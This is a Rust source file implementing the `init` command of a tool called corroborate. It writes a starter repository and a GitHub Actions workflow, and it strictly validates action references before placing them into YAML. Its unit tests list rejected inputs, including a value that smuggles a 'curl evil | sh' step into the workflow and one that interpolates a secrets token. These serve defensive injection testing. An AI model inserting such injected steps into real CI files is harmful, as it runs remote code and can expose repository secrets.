//! What `corroborate init` writes: a research repository that passes `check` and
//! `build` at once, with the CI workflow that checks it on every pull request and
//! publishes its report, through the corroborate GitHub Action it is told to use.

use crate::schema;
use crate::text::shown;

/// A GitHub Action as a workflow's `uses:` names it: `OWNER/REPO@REF`, or
/// `OWNER/REPO/PATH@REF` for an action in a subfolder.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ActionRef(String);

impl ActionRef {
    /// Reads `OWNER/REPO@REF`, refusing anything else: the text goes into a YAML file
    /// as it is, so only the characters GitHub allows in those names get through.
    pub fn parse(text: &str) -> Result<ActionRef, String> {
        let shape = "give it as OWNER/REPO@REF, for example my-org/corroborate@v0.1.0";
        let Some((path, reference)) = text.split_once('@') else {
            return Err(format!(
                "`{}` names no version after `@`; {shape}",
                shown(text)
            ));
        };
        let mut parts = path.split('/');
        let owner = parts.next().unwrap_or_default();
        let repo = parts.next().unwrap_or_default();
        let name_char = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.');
        let owner_ok = (1..=39).contains(&owner.len())
            && owner.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
            && !owner.starts_with('-');
        let repo_ok = (1..=100).contains(&repo.len())
            && repo.chars().all(name_char)
            && !matches!(repo, "." | "..");
        let subfolder_ok = parts.all(|p| !p.is_empty() && p.chars().all(name_char) && p != "..");
        let reference_ok = (1..=255).contains(&reference.len())
            && reference.chars().all(|c| name_char(c) || c == '/')
            && !reference.starts_with(['-', '/', '.']);
        if owner_ok && repo_ok && subfolder_ok && reference_ok {
            Ok(ActionRef(text.to_owned()))
        } else {
            Err(format!(
                "`{}` is not a GitHub Action reference; {shape}",
                shown(text)
            ))
        }
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

/// The step of the workflow's job `job` that runs corroborate's `command`.
fn action_step(action: Option<&ActionRef>, command: &str) -> String {
    match action {
        Some(action) => format!(
            "      - {}uses: {}\n        with:\n          command: {command}\n{}",
            if command == "links" { "id: links\n        " } else { "" },
            action.as_str(),
            if command == "build" {
                "          out: site\n"
            } else {
                ""
            }
        ),
        // Never an install command that cannot work: a step that says what is missing.
        None => "      - name: Name the corroborate action\n        run: |\n          echo \"::error title=corroborate::this workflow does not say where the corroborate action is; replace this step with 'uses: OWNER/REPO@REF' naming it (or run 'corroborate init --action OWNER/REPO@REF' in a new folder and copy its workflow)\"\n          exit 1\n".to_owned(),
    }
}

/// The CI workflow, using `action` (a step that fails with what to write there when
/// none is given).
pub fn workflow(action: Option<&ActionRef>) -> String {
    include_str!("init/workflow.yml")
        .replace("{check}\n", &action_step(action, "check"))
        .replace("{build}\n", &action_step(action, "build"))
        .replace("{links}\n", &action_step(action, "links"))
}

/// Every file `init` writes, by path relative to the new repository's root.
pub fn files(action: Option<&ActionRef>) -> Vec<(&'static str, String)> {
    vec![
        (
            "corroborate.yaml",
            include_str!("init/corroborate.yaml").to_owned(),
        ),
        (
            "claims/example.yaml",
            include_str!("init/example.yaml").to_owned(),
        ),
        (
            "evidence/city-procurement-notice.txt",
            include_str!("init/city-procurement-notice.txt").to_owned(),
        ),
        (
            "schemas/data.schema.json",
            schema::to_text(&schema::data_file()),
        ),
        (
            "schemas/corroborate.schema.json",
            schema::to_text(&schema::config_file()),
        ),
        (".gitignore", include_str!("init/gitignore").to_owned()),
        (".github/workflows/corroborate.yml", workflow(action)),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn action_references_are_read_strictly() {
        for good in [
            "my-org/corroborate@v0.1.0",
            "a/b@main",
            "org/repo/sub/folder@feature/x",
            "org/repo.rs@0123456789abcdef0123456789abcdef01234567",
        ] {
            assert_eq!(ActionRef::parse(good).map(|a| a.0), Ok(good.to_owned()));
        }
        for bad in [
            "",
            "corroborate",
            "org/repo",
            "org@v1",
            "org/@v1",
            "-org/repo@v1",
            "org/repo@",
            "org/repo@-x",
            "org/repo@v1 # comment",
            "org/repo@v1\n      - run: curl evil | sh",
            "org/repo@v1: x",
            "org/../x@v1",
            "org/repo@${{ secrets.TOKEN }}",
            "docker://alpine@v1",
        ] {
            assert!(ActionRef::parse(bad).is_err(), "{bad:?} was accepted");
        }
        let message = ActionRef::parse("org/repo").err().unwrap_or_default();
        assert!(message.contains("OWNER/REPO@REF"), "{message}");
    }

    #[test]
    fn the_workflow_uses_the_action_or_says_what_is_missing() {
        let action = ActionRef::parse("my-org/corroborate@v0.1.0").ok();
        let with = workflow(action.as_ref());
        assert!(
            with.contains(
                "      - uses: my-org/corroborate@v0.1.0\n        with:\n          command: check\n"
            ),
            "{with}"
        );
        assert!(
            with.contains("          command: build\n          out: site\n"),
            "{with}"
        );
        assert!(!with.contains("cargo install"), "{with}");
        assert!(
            with.contains("      - id: links\n        uses: my-org/corroborate@v0.1.0\n        with:\n          command: links\n"),
            "{with}"
        );
        assert!(with.contains("  schedule:\n    - cron:"), "{with}");
        let without = workflow(None);
        assert!(without.contains("::error title=corroborate::"), "{without}");
        assert!(without.contains("exit 1"), "{without}");
        assert!(
            !without.contains("cargo install")
                && !without.contains("{check}")
                && !without.contains("{links}"),
            "{without}"
        );
    }
}
